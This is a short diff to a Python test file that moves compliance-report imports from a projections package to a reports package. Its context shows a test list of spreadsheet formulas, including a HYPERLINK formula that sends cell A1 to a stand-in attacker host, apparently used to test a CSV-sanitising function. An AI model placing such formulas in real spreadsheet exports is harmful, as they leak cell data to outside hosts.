@@ -8,9 +8,9 @@ from datetime import UTC, datetime
 
 import pytest
 
-from cases.projections.compliance_export import spreadsheet_safe, to_csv
-from cases.projections.compliance_report import ComplianceReport, GroupFigures, ReportRequest
-from cases.projections.compliance_sql import Dimension
+from cases.reports.compliance_export import spreadsheet_safe, to_csv
+from cases.reports.compliance_report import ComplianceReport, GroupFigures, ReportRequest
+from cases.reports.compliance_sql import Dimension
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
